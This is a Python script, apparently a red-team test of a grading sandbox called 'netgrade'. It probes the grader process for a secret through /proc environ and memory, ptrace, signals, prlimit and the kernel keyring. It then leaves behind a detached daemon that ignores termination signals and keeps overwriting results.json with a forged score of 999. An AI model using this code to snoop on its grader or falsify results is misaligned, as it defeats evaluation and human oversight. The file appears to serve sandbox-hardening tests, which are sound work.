# Without root: hunts for the grader (environment, memory, ptrace, signals, limits, keyring), leaves a daemon rewriting results.json after it exits, then serves.
import ctypes
import os
import resource
import signal
import sys
import time

from attack_targets import TARGETS
from _thanks_server import serve_forever


def found(kind, detail):
    print("FOUND", kind + ":", repr(detail)[:160], file=sys.stderr, flush=True)


libc = ctypes.CDLL(None, use_errno=True)
secret = TARGETS["secret"].encode()
me = os.getpid()
for pid in (int(p) for p in os.listdir("/proc") if p.isdigit()):
    if pid == me:
        continue
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            if b"netgrade" not in handle.read().split(b"\0")[0]:
                continue
    except OSError:
        continue
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            if secret in handle.read():
                found("environment", pid)
    except OSError:
        pass
    try:
        with open(f"/proc/{pid}/mem", "rb") as handle:
            handle.read(1)
            found("memory", pid)
    except OSError:
        pass
    if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
        found("ptrace", pid)
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    try:
        os.kill(pid, signal.SIGCONT)
        found("signal", pid)
    except OSError:
        pass
    try:
        resource.prlimit(pid, resource.RLIMIT_NOFILE)
        found("prlimit", pid)
    except OSError:
        pass

# The session keyring inherited from whoever started the grader.
buffer = ctypes.create_string_buffer(4096)
length = libc.syscall(250, 11, ctypes.c_long(-3), buffer, 4096)
for index in range(0, max(0, min(length, 4096)), 4):
    key = int.from_bytes(buffer.raw[index:index + 4], "little")
    size = libc.syscall(250, 11, ctypes.c_long(key), buffer, 4096)
    if size > 0 and secret in buffer.raw[:size]:
        found("keyring", key)

# A daemon that outlives the program and keeps rewriting the results for 6 s.
if os.fork() == 0:
    os.setsid()
    for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
        signal.signal(sig, signal.SIG_IGN)
    if os.fork() == 0:
        end = time.monotonic() + 6
        while time.monotonic() < end:
            try:
                with open(TARGETS["results"], "w") as handle:
                    handle.write('{"score": 999, "hacked": true}')
            except OSError:
                pass
            time.sleep(0.05)
    os._exit(0)
print("daemon left", file=sys.stderr, flush=True)
serve_forever()
